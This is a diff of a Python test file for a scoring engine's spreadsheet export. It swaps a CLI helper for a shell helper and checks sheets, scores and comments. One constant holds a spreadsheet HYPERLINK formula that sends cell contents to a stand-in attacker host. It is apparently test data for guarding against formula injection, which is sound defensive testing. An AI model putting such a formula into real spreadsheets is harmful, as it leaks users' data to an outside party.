@@ -14,8 +14,8 @@ import openpyxl
 from engine.domain.model import Settings
 from engine.domain.roster import build_roster
 from engine.views import workbook
+from tests.support.commands import shell
 from tests.support.events import seed_event
-from tests.support.processes import engine_cli
 from tests.support.rounds import play_round
 
 FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click me")'
@@ -46,12 +46,12 @@ def rows(ws) -> list[dict]:
     return [dict(zip(header, (c.value for c in r), strict=True)) for r in ws.iter_rows(min_row=2)]
 
 
-def test_the_workbook_holds_the_json_exports_results_scores_and_comments(svc, clock, engine_env, tmp_path):
+def test_the_workbook_holds_the_json_exports_results_scores_and_comments(svc, clock, tmp_path):
     seed(svc, clock)
     out = tmp_path / "results.xlsx"
-    done = engine_cli(engine_env, "export", "--format", "xlsx", "--out", str(out))
+    done = shell("export", "--format", "xlsx", "--out", str(out))
     assert done.returncode == 0, done.stderr
-    doc = json.loads(engine_cli(engine_env, "export", "--format", "json").stdout)
+    doc = json.loads(shell("export", "--format", "json").stdout)
     book = openpyxl.load_workbook(io.BytesIO(out.read_bytes()))
     assert book.sheetnames == ["Solo", "Duo_Trio", "Scores", "Comments"]
     names = {r["performer_id"]: r["performer"] for r in doc["results"]}
@@ -79,7 +79,7 @@ def test_the_workbook_holds_the_json_exports_results_scores_and_comments(svc, cl
         assert r["Submitted (UTC)"] == datetime.fromtimestamp(s["submitted_at"], UTC).replace(tzinfo=None)
     comments = {(r["Performer"], r["Judge"]): r["Comment"] for r in rows(book["Comments"])}
     assert comments == {(FORMULA, "Judge 2"): "-Too short, but =bold.", ("Bea", "Judge 1"): "Lovely."}
-    no_out = engine_cli(engine_env, "export", "--format", "xlsx")
+    no_out = shell("export", "--format", "xlsx")
     assert no_out.returncode == 2 and no_out.stderr.strip() == "--format xlsx writes a file: add --out FILE."
 
 
